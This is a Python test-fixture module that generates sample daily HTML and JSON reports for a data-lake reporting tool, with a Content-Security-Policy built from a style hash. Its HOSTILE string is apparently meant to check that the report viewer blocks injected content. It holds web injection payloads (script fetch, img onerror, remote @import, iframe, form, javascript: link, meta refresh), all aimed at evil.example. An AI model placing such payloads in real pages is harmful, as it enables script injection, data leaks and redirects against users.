"""Reports of the shape that `lakejobs report` writes: for what is about the page, not about what they tell."""

from __future__ import annotations

import base64
import hashlib
import json
from datetime import date, timedelta
from pathlib import Path

STYLE = """
:root { color-scheme: light dark }
body { margin: 16px; font: 14px system-ui, sans-serif; color: rgb(20, 20, 20); background: rgb(255, 255, 255) }
:root[data-theme=dark] { color-scheme: dark }
:root[data-theme=dark] body { color: rgb(230, 230, 230); background: rgb(17, 20, 23) }
@media (prefers-color-scheme: dark) {
  :root:not([data-theme=light]) body { color: rgb(230, 230, 230); background: rgb(17, 20, 23) }
}
"""
# All that it could do without a policy: run, ask, send, leave.
HOSTILE = """<script>document.title = 'RAN'; fetch('http://evil.example/a')</script>
<img src="http://evil.example/b" onerror="document.title = 'RAN'" alt="">
<style>@import url(http://evil.example/c); body { display: none }</style>
<link rel="stylesheet" href="http://evil.example/d">
<iframe src="http://evil.example/e"></iframe><object data="http://evil.example/f"></object>
<form action="http://evil.example/g"><input name="x"><button>go</button></form>
<svg><a href="javascript:alert(1)"><text y="20">click</text></a></svg>
<meta http-equiv="refresh" content="0; url=http://evil.example/h">"""


def back(days: int, newest: str) -> str:
    return (date.fromisoformat(newest) - timedelta(days=days)).isoformat()


def page(day: str, body: str = "") -> str:
    digest = base64.b64encode(hashlib.sha256(STYLE.encode()).digest()).decode()
    policy = f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'"
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8">'
        f'<meta http-equiv="Content-Security-Policy" content="{policy}"><title>Lake, {day}</title>'
        f"<style>{STYLE}</style></head><body><h1>Report of {day}</h1>{body}</body></html>"
    )


def numbers(day: str, states: dict[str, str], word: str = "fresh", text: str = "All 1 tables fresh.") -> dict:
    days = [{"day": at, "state": state} for at, state in sorted(states.items())]
    return {
        "date": day,
        "writtenAt": f"{day}T07:05:00.000Z",
        "verdict": {"word": word, "text": text},
        "tables": [{"name": "default.web_logs", "days": days}],
    }


def write(folder: Path, day: str, states: dict[str, str] | None = None, body: str = "", **said: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{day}.html").write_text(page(day, body))
    (folder / f"{day}.json").write_text(json.dumps(numbers(day, states or {day: "verified"}, **said)))


def write_month(folder: Path, newest: str) -> dict[str, str]:
    """
    Reports of 30 days up to `newest`, without the one of ten days before it; returns the states that the newest tells:
    five days back one is missing, three days back one failed.
    """
    states = {back(number, newest): "verified" for number in range(30)}
    states |= {newest: "exported", back(5, newest): "missing", back(3, newest): "failed", back(2, newest): "unchanged"}
    for number in range(29, -1, -1):
        if number != 10:
            write(folder, back(number, newest), states, word="failed", text="1 table. 1 failed.")
    return states
